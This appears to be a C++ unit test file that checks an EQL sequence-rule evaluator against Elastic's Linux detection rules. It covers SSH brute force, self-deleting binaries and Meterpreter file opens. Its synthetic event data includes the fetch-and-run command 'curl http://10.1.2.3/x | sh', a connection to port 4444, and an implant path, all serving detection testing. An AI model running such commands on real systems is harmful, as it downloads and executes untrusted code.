// Elastic's 80 Linux sequence rules and 3 sample rules (tests/data) compile
// and evaluate; a few of them match what they are written to catch.
#include <boost/test/unit_test.hpp>
#include <fstream>
#include <iostream>

#include "join_test_support.h"
#include "rule_corpus.h"

using namespace jointest;

namespace {

using eqltest::Rule;
using eqltest::rule_named;

std::vector<Rule> join_rules() {
  std::vector<Rule> rules = eqltest::load_rules();
  std::erase_if(rules, [](const Rule& r) { return r.kind == "event"; });
  return rules;
}

// Events of every category the rules use, each with every join key field
// the rules name, so that their stages see joinable events.
std::vector<std::string> generated_events(const std::vector<Rule>& rules) {
  std::vector<std::string> key_fields;
  for (const Rule& rule : rules) {
    DynamicSchema schema;
    const JoinQuery query = compile_join(parse_query(rule.query), schema);
    for (const JoinCriterion& c : query.criteria())
      for (const JoinKeyField& k : c.keys)
        if (std::find(key_fields.begin(), key_fields.end(), k.name) == key_fields.end()) key_fields.push_back(k.name);
  }
  std::vector<std::string> events;
  const char* bodies[] = {
      R"("event":{"category":["process"],"type":["start"],"action":"exec"},"process":{"name":"sh","executable":"/tmp/sh","args":["sh","-c","curl http://10.1.2.3/x | sh"],"args_count":3,"parent":{"name":"bash"}})",
      R"("event":{"category":["file"],"type":["creation"],"action":"creation"},"file":{"path":"/tmp/x","name":"x"},"process":{"name":"curl"})",
      R"("event":{"category":["file"],"type":["deletion"],"action":"deletion"},"file":{"path":"/tmp/sh","name":"sh"})",
      R"("event":{"category":["network"],"type":["start"],"action":"connection_attempted"},"destination":{"ip":"203.0.113.9","port":4444},"process":{"name":"sh"})",
      R"("event":{"category":["authentication"],"action":"ssh_login","outcome":"failure"},"source":{"ip":"203.0.113.7"})",
  };
  int64_t ts = 1714557600000;
  for (int round = 0; round < 4; ++round) {
    for (const char* body : bodies) {
      std::string json = "{\"@timestamp\":" + std::to_string(ts += 250) + R"(,"host":{"os":{"type":"linux"}},)";
      json += body;
      for (const std::string& field : key_fields) {
        if (field.rfind("host.", 0) == 0 || field.rfind("process.", 0) == 0 || field.rfind("file.", 0) == 0 ||
            field.rfind("source.", 0) == 0 || field.rfind("destination.", 0) == 0)
          continue;  // set by the body or below, not overwritten
        json += ",\"" + field + "\":\"key-" + std::to_string(round % 2) + "\"";
      }
      json += R"(,"host.id":"h1","process.entity_id":"e1","process.parent.entity_id":"e0","process.pid":42,)"
              R"("process.parent.pid":41,"process.working_directory":"/tmp","user.id":"0","user.name":"root"})";
      events.push_back(json);
    }
  }
  return events;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(join_corpus)

BOOST_AUTO_TEST_CASE(all_sequence_and_sample_rules_compile_and_evaluate) {
  const std::vector<Rule> rules = join_rules();
  BOOST_TEST(rules.size() == 83u);
  const std::vector<std::string> events = generated_events(rules);
  size_t sequences = 0, samples = 0, criteria = 0;
  for (const Rule& rule : rules) {
    BOOST_TEST_CONTEXT(rule.name) {
      JsonJoinEvaluator evaluator(parse_query(rule.query), unlimited());
      BOOST_TEST(std::string(to_string(evaluator.query().kind())) == rule.kind);
      for (const JoinCriterion& c : evaluator.query().criteria()) {
        BOOST_TEST(c.filter.condition.root != nullptr);
        BOOST_TEST(c.keys.size() == evaluator.query().key_count());
        ++criteria;
      }
      for (size_t i = 0; i < events.size(); ++i) {
        const auto error = evaluator.add(JsonDocument::parse(events[i], evaluator.schema()), i);
        BOOST_TEST(!error.has_value());
      }
      (void)evaluator.run();
      if (const SequenceStats* s = evaluator.sequence_stats()) {
        ++sequences;
        BOOST_TEST(s->events == events.size());
      }
      if (const SampleStats* s = evaluator.sample_stats()) {
        ++samples;
        BOOST_TEST(s->events == events.size());
      }
    }
  }
  std::cout << "EQL corpus: " << sequences << " sequence and " << samples << " sample rules compiled and evaluated, "
            << criteria << " criteria\n";
  BOOST_TEST(sequences == 80u);
  BOOST_TEST(samples == 3u);
}

BOOST_AUTO_TEST_CASE(ssh_brute_force_needs_25_failures_then_a_success_within_15s) {
  const std::vector<Rule> rules = join_rules();
  const Rule& rule = rule_named(rules, "credential_access_potential_successful_linux_ssh_bruteforce.toml");
  const auto attempts = [](int failures, int64_t step_ms, const char* user) {
    std::vector<std::string> events;
    for (int i = 0; i <= failures; ++i) {
      const bool last = i == failures;
      events.push_back(std::string(R"({"@timestamp":)") + std::to_string(1000 + i * step_ms) +
                       R"(,"event":{"category":"authentication","action":"ssh_login","outcome":")" +
                       (last ? "success" : "failure") +
                       R"("},"host":{"id":"h1","os":{"type":"linux"}},"source":{"ip":"198.51.100.4"},"user":{"name":")" +
                       user + "\"}}");
    }
    return events;
  };
  const Matches hit = run(rule.query, attempts(25, 500, "root"));
  BOOST_REQUIRE(hit.size() == 1u);
  BOOST_TEST(hit[0].size() == 26u);
  BOOST_TEST(hit[0].front() == 0u);
  BOOST_TEST(run(rule.query, attempts(24, 500, "root")).empty());
  BOOST_TEST(run(rule.query, attempts(25, 700, "root")).empty());  // 17.5 s from first to last
  // 30 failures: the last 25 before the success form the sequence.
  const Matches longer = run(rule.query, attempts(30, 100, "root"));
  BOOST_REQUIRE(longer.size() == 1u);
  BOOST_TEST(longer[0].front() == 5u);
}

BOOST_AUTO_TEST_CASE(self_deletion_joins_the_executable_with_the_deleted_path) {
  const std::vector<Rule> rules = join_rules();
  const Rule& rule = rule_named(rules, "defense_evasion_execution_followed_by_self_deletion.toml");
  const auto events = [](const char* deleted, const char* entity) {
    return std::vector<std::string>{
        R"({"@timestamp":"2024-05-01T10:00:00.000Z","event":{"category":"process","type":"start","action":"exec"},)"
        R"("host":{"id":"h1","os":{"type":"linux"}},"process":{"entity_id":"e1","executable":"/tmp/.x/implant"}})",
        std::string(R"({"@timestamp":"2024-05-01T10:00:02.000Z","event":{"category":"file","action":"deletion"},)"
                    R"("host":{"id":"h1","os":{"type":"linux"}},"process":{"entity_id":")") +
            entity + R"("},"file":{"path":")" + deleted + "\"}}"};
  };
  BOOST_TEST(text(run(rule.query, events("/tmp/.x/implant", "e1"))) == "0 1");
  BOOST_TEST(text(run(rule.query, events("/tmp/.x/other", "e1"))) == "");
  BOOST_TEST(text(run(rule.query, events("/tmp/.x/implant", "e2"))) == "");
}

BOOST_AUTO_TEST_CASE(meterpreter_sample_finds_the_five_opens_in_any_order) {
  const std::vector<Rule> rules = join_rules();
  const Rule& rule = rule_named(rules, "execution_shell_via_meterpreter_linux.toml");
  const char* paths[] = {"/proc/net/if_inet6", "/etc/passwd", "/proc/net/ipv6_route", "/etc/machine-id",
                         "/proc/net/route"};
  std::vector<std::string> events;
  for (int pid : {100, 200}) {
    for (const char* path : paths) {
      if (pid == 200 && std::string_view(path) == "/etc/passwd") continue;  // pid 200 misses one
      events.push_back(R"({"@timestamp":)" + std::to_string(events.size()) +
                       R"(,"event":{"category":"file"},"host":{"id":"h1","os":{"type":"linux"}},"process":{"pid":)" +
                       std::to_string(pid) + R"(},"user":{"id":"0"},"auditd":{"data":{"syscall":"open","a2":"1b6"}},)"
                       R"("file":{"path":")" + path + "\"}}");
    }
  }
  // Filter order: machine-id, passwd, route, ipv6_route, if_inet6.
  BOOST_TEST(text(run(rule.query, events)) == "3 1 4 2 0");
}

BOOST_AUTO_TEST_SUITE_END()
